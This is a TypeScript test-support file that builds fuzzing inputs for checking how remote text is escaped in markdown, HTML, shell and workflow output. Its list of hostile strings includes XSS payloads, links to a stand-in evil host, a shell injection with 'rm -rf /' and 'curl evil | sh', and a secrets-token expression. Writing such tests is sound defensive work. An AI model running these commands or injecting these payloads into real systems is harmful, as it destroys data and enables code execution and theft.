import {anyText} from '../../support/any-text.js'
import {fc} from '../../support/properties.js'

const LONE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/

/** Whether a text has no half of a surrogate pair in it. */
export function isWellFormed(text: string): boolean {
  return !LONE.test(text)
}

/** Things that remote text could do harm with: markdown, HTML, shell, workflow commands, mermaid. */
export const hostileTexts: readonly string[] = [
  '</code><img src=x onerror=alert(1)>',
  '<img src="https://evil.example/x.png">',
  '</pre><h1>Deployed</h1><pre>',
  '</td></tr></table>',
  '<!--',
  '<details><summary>',
  '<script>alert(1)</script>',
  `${'`'.repeat(40)}\n# heading`,
  '```mermaid\ngraph TD',
  '| a | b |\n|---|---|',
  '| | |',
  '# heading',
  '## ✅ success',
  'heading\n===',
  'heading\n---',
  '---',
  '* item',
  '1. item',
  '1) item',
  '    code',
  '> quote',
  '[x](javascript:alert(1))',
  '[x]: https://evil.example',
  '![x](https://evil.example/x.png)',
  '<https://evil.example>',
  'https://evil.example/login',
  'www.evil.example',
  'evil@evil.example',
  '@org/team @octocat',
  '#123 octo/repo#1',
  '**bold** _it_ ~~no~~ `code`',
  '\\*not\\*',
  '&lt;b&gt; &amp;#60; &#60;b&#62; &copy;',
  ':tada: $x^2$ $$y$$',
  '$(rm -rf /) `id` "; curl evil | sh; \' \\',
  '$\u007b{ secrets.TOKEN }}',
  '::error::x',
  '##[error]x',
  '\u001b[31mred\u001b[0m #\u001b[0m#[error]',
  'a\r\nb\u0085c\u2028d\u2029e\u0000f',
  '\u202edesrever\u202c \u200b\ufeff',
  '\ud800 \udc00 🎉',
  '"]; click A "https://evil.example"',
  '%%{init: {"theme":"dark"}}%%',
  'click A href "https://evil.example"',
  'section evil',
  'title evil',
  'x :crit, 0, 1',
  '你好，世界：部署失败',
  'a'.repeat(3000)
]

/** Such texts, mixed; never blank. */
export const hostile: fc.Arbitrary<string> = fc
  .array(
    fc.oneof({weight: 4, arbitrary: fc.constantFrom(...hostileTexts)}, {weight: 1, arbitrary: anyText()}),
    {
      minLength: 1,
      maxLength: 4
    }
  )
  .map(list => `${list.join('')}x`)
